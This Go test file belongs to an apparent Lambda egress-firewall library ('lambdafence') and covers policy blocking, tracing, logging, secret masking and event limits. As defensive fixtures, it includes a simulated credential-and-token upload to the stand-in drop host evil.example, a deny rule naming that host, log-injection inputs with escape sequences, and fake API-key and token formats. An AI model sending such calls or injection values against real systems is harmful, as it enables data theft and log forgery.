package wrapper_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/lambdacontext"
	"github.com/google/go-cmp/cmp"
	"github.com/lambdafence/lambdafence/internal/otlprecv"
	"github.com/lambdafence/lambdafence/policy"
	"github.com/lambdafence/lambdafence/policy/source"
	"github.com/lambdafence/lambdafence/wrapper"
	"github.com/lambdafence/lambdafence/wrapper/wrappertest"
	"go.opentelemetry.io/otel/exporters/otlp/otlptrace/otlptracehttp"
	sdktrace "go.opentelemetry.io/otel/sdk/trace"
	"go.opentelemetry.io/otel/sdk/trace/tracetest"
	"go.opentelemetry.io/otel/trace"
)

var update = flag.Bool("update", false, "write the golden files anew")

// golden compares got with a file of testdata.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s (-want +got; -update writes it):\n%s", file, diff)
	}
}

// steady replaces what differs from run to run.
func steady(s string) string {
	for pattern, with := range map[string]string{
		`"time":"[^"]+"`:            `"time":"TIME"`,
		`"trace_id":"[0-9a-f]{32}"`: `"trace_id":"TRACE"`,
		`"span_id":"[0-9a-f]{16}"`:  `"span_id":"SPAN"`,
		`sha256:[0-9a-f]{12}`:       `sha256:VERSION`,
		`127\.0\.0\.1:[0-9]+`:       `127.0.0.1:PORT`,
		`"port":[0-9]{5}`:           `"port":PORT`,
		`"server.port": [0-9]{5}`:   `"server.port": PORT`,
	} {
		s = regexp.MustCompile(pattern).ReplaceAllString(s, with)
	}
	return s
}

const storyDoc = `
name: orders
mode: enforce
allow:
- {host: 127.0.0.1, schemes: [http], ports: [%d], id: payments}
deny:
- {host: evil.example, id: drop-site, reason: known drop site}
- {host: 127.0.0.1, paths: [/beacon/**], id: watched, reason: under watch, mode: report}
`

// TestEventsAsALambdaUserGetsThem sends a blocked, a reported and an allowed
// call through a wrapped handler with the real SDK and its OTLP exporter, and
// keeps what the receiver got, and the log, in golden files.
func TestEventsAsALambdaUserGetsThem(t *testing.T) {
	recv, err := otlprecv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer recv.Close()
	t.Setenv("AWS_LAMBDA_FUNCTION_NAME", "orders")
	t.Setenv("AWS_LAMBDA_FUNCTION_VERSION", "7")
	t.Setenv("AWS_REGION", "eu-west-1")
	exporter, err := otlptracehttp.New(t.Context(), otlptracehttp.WithEndpoint(recv.Addr()), otlptracehttp.WithInsecure())
	if err != nil {
		t.Fatal(err)
	}
	provider := sdktrace.NewTracerProvider(sdktrace.WithBatcher(exporter))
	defer provider.Shutdown(context.Background())
	srv, _ := server(t, nil)
	var book logBook
	f := wrapper.Must(wrapper.New(t.Context(), book.option(), wrapper.WithTracerProvider(provider), wrapper.WithEvents(wrapper.All),
		wrapper.WithPolicy(source.Static("embedded", fmt.Appendf(nil, storyDoc, portOf(srv))))))
	handler := f.Wrap(func(ctx context.Context) error {
		client := f.Client()
		client.Timeout = 2 * time.Second
		_ = fetch{"POST", srv.URL + "/v1/charges?card=4242424242424242"}.do(ctx, client)
		_ = fetch{"GET", srv.URL + "/beacon/1?key=s3cret"}.do(ctx, client)
		_ = fetch{"PUT", "https://user:pa55@evil.example/upload/eyJhbGciOiJIUzI1NiJ9.eyJzdWIi"}.do(ctx, client)
		return nil
	})
	ctx := lambdacontext.NewContext(t.Context(), &lambdacontext.LambdaContext{
		AwsRequestID: "req-1", InvokedFunctionArn: "arn:aws:lambda:eu-west-1:123456789012:function:orders",
	})
	ctx = context.WithValue(ctx, "x-amzn-trace-id", "Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1") //nolint:staticcheck // the key of aws-lambda-go
	stdout := capture(t, func() {
		if _, err := handler.Invoke(ctx, []byte("{}")); err != nil {
			t.Error(err)
		}
	})
	// The flush at the end of the invocation brought them here; nothing is left to wait for.
	golden(t, "spans.golden", []byte(steady(spansText(t, recv.Spans()))))
	golden(t, "log.golden", []byte(steady(book.String())))
	golden(t, "metric.golden", []byte(regexp.MustCompile(`"Timestamp":\d+`).ReplaceAllString(stdout, `"Timestamp":TIME`)))
	for _, secret := range []string{"42424242", "s3cret", "pa55", "eyJhb"} {
		if strings.Contains(book.String()+stdout+fmt.Sprint(recv.Spans()), secret) {
			t.Errorf("%q leaked", secret)
		}
	}
}

func portOf(srv *httptest.Server) int { return srv.Listener.Addr().(*net.TCPAddr).Port }

type fetch struct{ method, url string }

func (f fetch) do(ctx context.Context, c *http.Client) error {
	req, err := http.NewRequestWithContext(ctx, f.method, f.url, nil)
	if err != nil {
		return err
	}
	resp, err := c.Do(req)
	if err == nil {
		resp.Body.Close()
	}
	return err
}

// spansText writes spans as JSON, without what differs from run to run.
func spansText(t *testing.T, spans []otlprecv.Span) string {
	t.Helper()
	type view struct {
		Name, Kind, Status, Message, Trace, Parent string
		Attributes                                 map[string]any
	}
	ids := map[string]string{"": "", "53995c3f42cd8ad8": "of the X-Ray header"}
	for _, s := range spans {
		ids[s.SpanID] = s.Name
	}
	var b bytes.Buffer
	for _, s := range spans {
		doc, err := json.MarshalIndent(view{s.Name, s.Kind, s.Status, s.Message, s.TraceID, ids[s.ParentID], s.Attributes}, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		b.Write(append(doc, '\n'))
	}
	return b.String()
}

// capture returns what fn writes on standard output.
func capture(t *testing.T, fn func()) string {
	t.Helper()
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	before := os.Stdout
	os.Stdout = w
	defer func() { os.Stdout = before }()
	done := make(chan string)
	go func() {
		out, _ := io.ReadAll(r)
		done <- string(out)
	}()
	fn()
	w.Close()
	return <-done
}

func TestWorksWithoutAnyOpenTelemetry(t *testing.T) {
	var book logBook
	f := wrapper.Must(wrapper.New(t.Context(), book.option(), wrapper.WithPolicy(source.Static("p", []byte(goodDoc)))))
	if invoke(t, f, evilCall) != 1 {
		t.Error("not blocked")
	}
	lines := book.lines(t)
	if len(lines) != 1 || lines[0]["outcome"] != "blocked" || lines[0]["trace_id"] != nil {
		t.Errorf("log = %v", lines)
	}
	if err := f.Flush(t.Context()); err != nil {
		t.Error(err)
	}
}

func TestDefaultLoggerIsJSONOnStandardOutput(t *testing.T) {
	out := capture(t, func() {
		f := wrapper.Must(wrapper.New(t.Context(), wrapper.WithPolicy(source.Static("p", []byte(goodDoc)))))
		_ = f.Check(t.Context(), evilCall)
	})
	var line struct {
		Level, Msg, Outcome string
		V                   int
	}
	if err := json.Unmarshal([]byte(out), &line); err != nil || line.Level != "WARN" || line.Msg != "lambdafence" || line.V != 1 || line.Outcome != "blocked" {
		t.Errorf("standard output = %s (%v)", out, err)
	}
}

func TestWhichEventsAreMade(t *testing.T) {
	calls := []policy.Call{goodCall, goodCall, {Host: "good.test", Port: 444}, evilCall, evilCall}
	for _, tt := range []struct {
		name string
		doc  string
		opts []wrapper.Option
		want string
	}{
		{"default", goodDoc, nil, "blocked blocked blocked"},
		{"first seen", goodDoc, []wrapper.Option{wrapper.WithEvents(wrapper.FirstSeen)}, "allowed blocked blocked blocked"},
		{"all", goodDoc, []wrapper.Option{wrapper.WithEvents(wrapper.All)}, "allowed allowed blocked blocked blocked"},
		{"learn", "mode: learn", nil, "allowed allowed allowed"},
		{"learn, violations asked for", "mode: learn", []wrapper.Option{wrapper.WithEvents(wrapper.Violations)}, ""},
		{"off", "mode: off\ndeny: [{host: '**'}]", []wrapper.Option{wrapper.WithEvents(wrapper.All)}, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var events []wrapper.Event
			opts := append([]wrapper.Option{discard(), sinkTo(&events), wrapper.WithPolicy(source.Static("p", []byte(tt.doc)))}, tt.opts...)
			f := wrapper.Must(wrapper.New(t.Context(), opts...))
			for _, c := range calls {
				_ = f.Check(t.Context(), c)
			}
			var got []string
			for _, ev := range events {
				got = append(got, ev.Outcome.String())
			}
			if strings.Join(got, " ") != tt.want {
				t.Errorf("events: %s, want %s", strings.Join(got, " "), tt.want)
			}
		})
	}
}

// In learn mode the decision that would have been is attached.
func TestLearnKeepsTheDecision(t *testing.T) {
	var events []wrapper.Event
	f := wrapper.Must(wrapper.New(t.Context(), discard(), sinkTo(&events), wrapper.WithPolicy(source.Static("p", []byte("mode: learn\ndeny: [{host: evil.test, id: drop}]")))))
	if err := f.Check(t.Context(), evilCall); err != nil {
		t.Fatal(err)
	}
	if len(events) != 1 || events[0].Outcome != wrapper.Allowed || events[0].Decision.Effect != policy.Deny || events[0].Decision.Rule != "drop" {
		t.Errorf("events = %+v", events)
	}
}

func TestRepeatsAreFoldedWithACount(t *testing.T) {
	var events []wrapper.Event
	f := wrapper.Must(wrapper.New(t.Context(), discard(), sinkTo(&events), wrapper.WithPolicy(source.Static("p", []byte(goodDoc)))))
	for range 5000 {
		_ = f.Check(t.Context(), evilCall)
	}
	if len(events) != 10 {
		t.Errorf("%d events at once, want 10", len(events))
	}
	if err := f.Flush(t.Context()); err != nil {
		t.Fatal(err)
	}
	total := 0
	for _, ev := range events {
		total += ev.Count
	}
	if len(events) != 11 || total != 5000 {
		t.Errorf("%d events that stand for %d calls, want 11 for 5000", len(events), total)
	}
}

func TestEventsAreBoundedWhateverTheTraffic(t *testing.T) {
	var events []wrapper.Event
	f := wrapper.Must(wrapper.New(t.Context(), discard(), sinkTo(&events), wrapper.WithPolicy(source.Static("p", []byte(goodDoc)))))
	const calls = 50_000
	for i := range calls {
		_ = f.Check(t.Context(), policy.Call{Kind: policy.HTTP, Scheme: "https", Host: "evil.test", Path: fmt.Sprintf("/scan/%d", i)})
	}
	_ = f.Flush(t.Context())
	total := 0
	for _, ev := range events {
		total += ev.Count
	}
	if len(events) > 2100 || total != calls {
		t.Errorf("%d events for %d calls (counted %d), want about a thousand and none lost", len(events), calls, total)
	}
}

// A user's sink, logger or tracer that panics must not become the user's call.
func TestPanicsOfTheUsersParts(t *testing.T) {
	boom := slog.New(panicHandler{})
	f := wrapper.Must(wrapper.New(t.Context(), wrapper.WithLogger(boom),
		wrapper.WithSink(func(context.Context, wrapper.Event) { panic("sink") }),
		wrapper.WithTracerProvider(panicProvider{}),
		wrapper.WithPolicy(source.Static("p", []byte(goodDoc)))))
	if invoke(t, f, evilCall) != 1 {
		t.Error("not blocked")
	}
	if err := f.Flush(t.Context()); err != nil && !strings.Contains(err.Error(), "panicked") {
		t.Error(err)
	}
}

type panicHandler struct{ slog.Handler }

func (panicHandler) Enabled(context.Context, slog.Level) bool  { return true }
func (panicHandler) Handle(context.Context, slog.Record) error { panic("logger") }

type panicProvider struct{ trace.TracerProvider }

func (panicProvider) Tracer(string, ...trace.TracerOption) trace.Tracer { panic("tracer") }

func TestCollectorThatHangsIsSkipped(t *testing.T) {
	recv, err := otlprecv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer recv.Close()
	recv.Hang(true)
	exporter, err := otlptracehttp.New(t.Context(), otlptracehttp.WithEndpoint(recv.Addr()), otlptracehttp.WithInsecure(), otlptracehttp.WithRetry(otlptracehttp.RetryConfig{}))
	if err != nil {
		t.Fatal(err)
	}
	provider := sdktrace.NewTracerProvider(sdktrace.WithBatcher(exporter))
	defer func() {
		ctx, cancel := context.WithTimeout(context.Background(), time.Millisecond)
		defer cancel()
		_ = provider.Shutdown(ctx)
	}()
	f := wrapper.Must(wrapper.New(t.Context(), discard(), wrapper.WithTracerProvider(provider),
		wrapper.WithFlushTimeout(100*time.Millisecond), wrapper.WithPolicy(source.Static("p", []byte(goodDoc)))))
	began := time.Now()
	invoke(t, f, evilCall)
	if first := time.Since(began); first < 90*time.Millisecond || first > 2*time.Second {
		t.Errorf("first invocation took %v, want about the flush timeout", first)
	}
	began = time.Now()
	for range 10 {
		invoke(t, f, evilCall)
	}
	if rest := time.Since(began); rest > 90*time.Millisecond {
		t.Errorf("ten more took %v: the collector is asked each time", rest)
	}
}

func TestBlockedExportMakesALogLineAndNoSpan(t *testing.T) {
	t.Setenv("OTEL_EXPORTER_OTLP_ENDPOINT", "https://collector.example:4318")
	spans := tracetest.NewInMemoryExporter()
	provider := sdktrace.NewTracerProvider(sdktrace.WithSyncer(spans))
	var book logBook
	f := wrapper.Must(wrapper.New(t.Context(), book.option(), wrapper.WithTracerProvider(provider), wrapper.WithPolicy(source.Static("p", []byte(goodDoc)))))
	for _, url := range []string{"https://collector.example:4318/v1/traces", "http://localhost:4318/v1/traces"} {
		if _, err := get(t, f.Client(), url); !errors.Is(err, wrapper.ErrBlocked) {
			t.Errorf("%s: %v", url, err)
		}
	}
	if n := len(book.lines(t)); n != 2 || len(spans.GetSpans()) != 0 {
		t.Errorf("%d log lines, %d spans; want 2 and none", n, len(spans.GetSpans()))
	}
}

// An exporter whose client is guarded, and that exports as soon as a span ends,
// makes a call for each event: it must not go round for ever.
func TestExporterBehindTheFence(t *testing.T) {
	recv, err := otlprecv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer recv.Close()
	provider := sdktrace.NewTracerProvider()
	f := wrappertest.New(t, "mode: enforce\nlocal: ['"+recv.Addr()+"']\ndeny: []", wrapper.WithTracerProvider(provider))
	exporter, err := otlptracehttp.New(t.Context(), otlptracehttp.WithEndpoint(recv.Addr()), otlptracehttp.WithInsecure(), otlptracehttp.WithHTTPClient(f.Client()))
	if err != nil {
		t.Fatal(err)
	}
	provider.RegisterSpanProcessor(sdktrace.NewSimpleSpanProcessor(exporter))
	_ = f.Check(t.Context(), goodCall)
	if events, spans := len(f.Events()), len(recv.Spans()); events != 2 || spans != 1 {
		t.Errorf("%d events and %d spans; want the call and its export, and a span of the call alone", events, spans)
	}
}

func TestUnsampledInvocationStillShowsAttempts(t *testing.T) {
	spans := tracetest.NewInMemoryExporter()
	provider := sdktrace.NewTracerProvider(sdktrace.WithSyncer(spans))
	f := wrapper.Must(wrapper.New(t.Context(), discard(), wrapper.WithTracerProvider(provider), wrapper.WithPolicy(source.Static("p", []byte(goodDoc)))))
	unsampled := trace.NewSpanContext(trace.SpanContextConfig{TraceID: trace.TraceID{1}, SpanID: trace.SpanID{2}, Remote: true})
	_ = f.Check(trace.ContextWithRemoteSpanContext(t.Context(), unsampled), evilCall)
	got := spans.GetSpans()
	if len(got) != 1 || len(got[0].Links) != 1 || got[0].Links[0].SpanContext.TraceID() != unsampled.TraceID() {
		t.Errorf("spans = %+v, want one with a link to the unsampled parent", got)
	}
}

func TestMaskPath(t *testing.T) {
	for _, tt := range []struct{ path, want string }{
		{"/v1/charges/ch_123", "/v1/charges/ch_123"},
		{"/orders/550e8400-e29b-41d4-a716-446655440000", "/orders/550e8400-e29b-41d4-a716-446655440000"},
		{"/a-rather-long-name-of-a-resource/in-2026-11-21/getCustomerAccountDetails", "/a-rather-long-name-of-a-resource/in-2026-11-21/getCustomerAccountDetails"},
		{"/1234567890123456789", "/1234567890123456789"},
		{"/services/T00000000/B00000000/XXXXXXXXXXXXXXX1x2xXXXXX", "/services/T00000000/B00000000/***"},
		{"/bot110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/send", "/***/send"},
		{"/t/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "/t/***"},
		{"/t/%65yJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0", "/t/***"},
		{"/key/AKIAIOSFODNN7EXAMPLE00", "/key/***"},
		{"/hooks/AbCdEfGhIjKl-NoPqRs_Uv1XyZ", "/hooks/***"},
		{"/v1/sk_live_abcdefghijklmnop", "/v1/***"},
		{"/sms/+15551234567", "/sms/***"},
		{"/sms/%2B15551234567", "/sms/***"},
		{"/x%3Fpassword=hunter2", "/***"},
		{"/ghosts/ghostwriters-of-history", "/ghosts/ghostwriters-of-history"},
		{"/d/0123456789abcdef0123456789abcdef01234567", "/d/***"},
		{"https://user:pw@host.example/x", "host.example/x"},
		{"/hooks/fWyuwHbsKkWXfUxkBvDHwdyt", "/hooks/***"},
		{"/api/ListUserPoolClientsForAccount", "/api/ListUserPoolClientsForAccount"},
		{"user:pw@host.example:443", "host.example:443"},
		{"/fetch/https%3A%2F%2Fu%3Apw%40host.example", "/fetch/***"},
		{"/users/bob@host.example", "/users/bob@host.example"},
		{"/run/db.sock", "/run/db.sock"},
		{"@abstract", "@abstract"},
	} {
		if got := wrapper.MaskPath(tt.path); got != tt.want {
			t.Errorf("MaskPath(%q) = %q, want %q", tt.path, got, tt.want)
		}
	}
}

func TestClean(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"plain", "plain"},
		{"grüße", "grüße"},
		{"a\nb\x1b[31m", `a\u000ab\u001b[31m`},
		{"line\u2028sep\u202eright", `line\u2028sep\u202eright`},
		{"bad\xff", `bad\xff`},
		{strings.Repeat("x", 30), strings.Repeat("x", 20) + "…"},
	} {
		if got := wrapper.Clean(tt.in, 20); got != tt.want {
			t.Errorf("Clean(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestHostileCallInALogLine(t *testing.T) {
	var book logBook
	f := wrapper.Must(wrapper.New(t.Context(), book.option(), wrapper.WithPolicy(source.Static("p", []byte(goodDoc)))))
	_ = f.Check(t.Context(), policy.Call{Kind: policy.HTTP, Scheme: "https", Method: "GET\n{\"level\":\"INFO\"}", Host: "evil.test", Port: 443, Path: "/\u2028\x1b[2J" + strings.Repeat("a", 5000)})
	if n := strings.Count(book.String(), "\n"); n != 1 {
		t.Errorf("%d lines:\n%s", n, book.String())
	}
	if len(book.String()) > 2000 || strings.ContainsAny(book.String(), "\x1b\u2028") {
		t.Errorf("line of %d bytes:\n%s", len(book.String()), book.String())
	}
}
